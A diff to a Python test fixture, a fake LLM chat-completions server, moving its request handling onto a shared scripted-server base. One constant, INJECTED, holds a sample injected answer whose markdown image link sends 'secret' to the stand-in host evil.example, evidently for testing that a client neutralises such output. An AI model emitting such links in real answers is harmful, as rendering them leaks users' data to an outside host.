@@ -13,24 +13,23 @@ import json
 import re
 import threading
 import time
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
+from contextlib import AbstractContextManager
 from dataclasses import dataclass, field
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from typing import Any
+
+from tests.scripted_server import (
+    Script,
+    ScriptedHandler,
+    ScriptedServer,
+    running,
+    serve_until_interrupted,
+)
 
 _PASSAGE = re.compile(r"<<<PASSAGE \[(\d+)\][^\n]*\n(.*?)\n<<<END \[\1\]>>>", re.DOTALL)
 _WORD = re.compile(r"[\w-]+")
 ABSTENTION = "The passages do not answer this question."
 INJECTED = "![x](http://evil.example/?q=secret) [here](http://evil.example) <img src=x> done [1]."
-
-
-@dataclass(frozen=True)
-class Recorded:
-    """One request as it arrived."""
-
-    path: str
-    headers: dict[str, str]
-    body: dict[str, Any]
 
 
 def passages_of(body: dict[str, Any]) -> list[str]:
@@ -52,29 +51,24 @@ def normal_answer(body: dict[str, Any]) -> str:
 
 
 @dataclass
-class Script:
-    """What the server does next, and what it has seen. ``gone`` is set when a client hangs up."""
+class LlmScript(Script):
+    """The next answer; ``gone`` is set when a client hangs up."""
 
-    scenario: str = "normal"
     delay: float = 0.0
     text: str = ""
-    requests: list[Recorded] = field(default_factory=list)
     gone: threading.Event = field(default_factory=threading.Event)
-    stopping: threading.Event = field(default_factory=threading.Event)
 
 
-class _Handler(BaseHTTPRequestHandler):
-    protocol_version = "HTTP/1.1"
-    script: Script
+class _Handler(ScriptedHandler):
+    server: LlmServer
 
-    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the parent's name
-        """Keep the test output clean."""
+    @property
+    def script(self) -> LlmScript:
+        """What the server does next."""
+        return self.server.script
 
-    def do_POST(self) -> None:
-        """Record the request and play the scenario."""
-        length = int(self.headers.get("content-length", 0))
-        body = json.loads(self.rfile.read(length) or b"{}")
-        self.script.requests.append(Recorded(self.path, dict(self.headers.items()), body))
+    def play(self, body: dict[str, Any]) -> None:
+        """Play the scenario."""
         if self.path != "/v1/chat/completions":
             self._status(404, "no such path")
             return
@@ -86,14 +80,7 @@ class _Handler(BaseHTTPRequestHandler):
 
     def _status(self, status: int, message: str, param: str = "", **headers: str) -> None:
         error = {"message": message, "type": "test", "param": param or None, "code": None}
-        payload = json.dumps({"error": error}).encode()
-        self.send_response(status)
-        for name, value in headers.items():
-            self.send_header(name.replace("_", "-"), value)
-        self.send_header("content-type", "application/json")
-        self.send_header("content-length", str(len(payload)))
-        self.end_headers()
-        self.wfile.write(payload)
+        self.reply(status, json.dumps({"error": error}).encode(), **headers)
 
     def _open(self, kind: str = "text/event-stream") -> None:
         self.send_response(200)
@@ -277,35 +264,25 @@ SCENARIOS: dict[str, Callable[[_Handler, dict[str, Any]], None]] = {
 }
 
 
-class LlmServer(ThreadingHTTPServer):
+class LlmServer(ScriptedServer):
     """The server with its script; ``url`` is the base URL for a client."""
 
-    daemon_threads = True
-    block_on_close = False
+    script: LlmScript
 
     def __init__(self, scenario: str = "normal", port: int = 0, delay: float = 0.0) -> None:
-        self.script = Script(scenario, delay)
-        handler = type("Handler", (_Handler,), {"script": self.script})
-        super().__init__(("127.0.0.1", port), handler)
+        super().__init__(_Handler, LlmScript(scenario, delay=delay), port)
 
     @property
     def url(self) -> str:
         """Such as http://127.0.0.1:8099/v1."""
-        return f"http://127.0.0.1:{self.server_port}/v1"
+        return f"{super().url}/v1"
 
 
-@contextlib.contextmanager
-def serving(scenario: str = "normal", port: int = 0, delay: float = 0.0) -> Iterator[LlmServer]:
-    """A running server, gone with all its threads' work at the end of the block."""
-    with LlmServer(scenario, port, delay) as server:
-        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
-        thread.start()
-        try:
-            yield server
-        finally:
-            server.script.stopping.set()
-            server.shutdown()
-            thread.join(5)
+def serving(
+    scenario: str = "normal", port: int = 0, delay: float = 0.0
+) -> AbstractContextManager[LlmServer]:
+    """A running server, gone at the end of the block."""
+    return running(LlmServer(scenario, port, delay))
 
 
 def main() -> None:
@@ -315,9 +292,7 @@ def main() -> None:
     parser.add_argument("--scenario", choices=sorted(SCENARIOS), default="normal")
     parser.add_argument("--delay", type=float, default=0.03, help="seconds between two words")
     arguments = parser.parse_args()
-    server = LlmServer(arguments.scenario, arguments.port, arguments.delay)
-    with server, contextlib.suppress(KeyboardInterrupt):
-        server.serve_forever()
+    serve_until_interrupted(LlmServer(arguments.scenario, arguments.port, arguments.delay))
 
 
 if __name__ == "__main__":
